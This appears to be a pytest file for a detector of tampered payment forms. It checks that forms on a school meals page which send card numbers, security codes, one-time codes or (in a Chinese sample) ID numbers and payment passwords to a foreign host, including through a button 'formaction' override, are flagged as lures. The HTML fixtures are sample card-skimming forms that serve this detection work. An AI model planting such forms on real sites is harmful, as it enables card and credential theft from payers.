"""Forms that hand card data, secrets and codes to a foreign host."""

import pytest

from app.domain.tampering import TamperSign
from app.engines.analyse.own_site.own_forms import examine_forms
from app.engines.extract.page import extract_document
from app.engines.html.document import HtmlDocument
from app.engines.parsing.own_pages import own_page_of

URL = "https://www.school.test/pay/"
TYPE = "text/html; charset=utf-8"
FORM = """<h1>School meals</h1><p>Pay for a term.</p><form method=post action="https://fees.collect.test/r.php">
<label>Pupil <input name="pupil"></label><label>Card number <input name="c1"></label>
<label>Expiry date <input name="c2"></label><label>Security code <input name="c3" maxlength=4></label>
<label>Code that we sent to your phone <input name="otp"></label><button>Pay</button></form>"""
CHINESE = """<p>请完成校园卡实名认证</p><form action="//auth.collect.test/s"><p>银行卡号 <input name=a></p>
<p>身份证号 <input name=b></p><p>支付密码 <input name=c type=password></p><p>短信验证码 <input name=d></p></form>"""

START = """<form action='https://fees.collect.test/start'><input name=notice></form>
<p>Have your card number, security code and date of birth ready.</p>"""


def terms(html, partner=""):
    document = HtmlDocument.decode(html.encode(), TYPE)
    page = own_page_of(document, extract_document(document, url=URL, headers=[("content-type", TYPE)]), URL)
    found = list(examine_forms(page, lambda host: host == partner))
    assert {one.sign for one in found} <= {TamperSign.LURE}
    return [one.terms[0] for one in found]


@pytest.mark.parametrize(
    ("html", "host"),
    [
        (FORM, "fees.collect.test"),
        (CHINESE, "auth.collect.test"),
        (
            FORM.replace('action="https://fees.collect.test/r.php"', 'action="/pay"').replace(
                "<button>", '<button formaction="https://fees.collect.test/r.php">'
            ),
            "fees.collect.test",
        ),
    ],
)
def test_a_form_for_a_card_and_its_secrets_leads_to_a_foreign_host(html, host):
    assert terms(html) == [host]


@pytest.mark.parametrize(
    "html",
    [
        FORM.replace("fees.collect.test", "fees.school.test"),
        FORM.replace("Pay for a term.", "Payments are taken by Collect."),
        FORM.replace("Card number", "Library card number"),
        FORM.replace("Security code", "Class").replace("Expiry date", "Term").replace('"otp"', '"c4"'),
        CHINESE.replace("银行卡号", "学号"),  # the log-in of another office
        START,
    ],
)
def test_own_forms_named_providers_log_ins_and_starts_of_a_payment_are_none(html):
    assert terms(html) == []


def test_the_form_of_a_known_service_is_none():
    assert terms(FORM, "fees.collect.test") == []
